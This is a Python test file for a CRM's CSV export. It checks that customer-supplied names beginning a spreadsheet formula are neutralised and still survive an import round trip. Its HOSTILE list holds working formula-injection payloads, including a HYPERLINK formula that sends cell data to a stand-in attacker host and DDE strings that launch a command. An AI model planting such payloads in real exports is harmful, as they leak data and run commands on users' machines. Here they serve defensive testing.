"""CSV formula injection: names come from customers, so an export must not hand a
spreadsheet a formula to run (SQLite and PostgreSQL); a round trip keeps the text."""

import csv
import io

from sqlmodel import select

from crm.actors import Actor
from crm.clock import ManualClock
from crm.contacts import ContactInput, create_contact
from crm.csvio import export_contacts, import_contacts, safe_cell
from crm.db import Store
from crm.models import Contact

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_cells_that_start_a_formula_are_neutralised_and_numbers_are_not() -> None:
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    for value in ("+1 415 555 0100", "-12.5", "Jane = Doe", "a@b.example", 42):
        assert safe_cell(value) == value


def test_export_of_hostile_names_is_inert_and_imports_back(
    store: Store, admin: Actor, clock: ManualClock
) -> None:
    with store.transaction() as session:
        for name in HOSTILE:
            create_contact(session, actor=admin, data=ContactInput(name=name), now=clock.now())
    out = io.StringIO()
    assert export_contacts(store, out, actor=admin) == len(HOSTILE)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert sorted(r["name"] for r in rows) == sorted("'" + n.strip() for n in HOSTILE)
    with store.transaction() as session:
        for contact in session.exec(select(Contact)).all():
            session.delete(contact)
    again = io.StringIO(out.getvalue())
    report = import_contacts(store, again, actor=admin, now=clock.now())
    assert report.ok, report.errors
    with store.transaction() as session:
        names = sorted(c.name for c in session.exec(select(Contact)).all())
    assert names == sorted(n.strip() for n in HOSTILE)
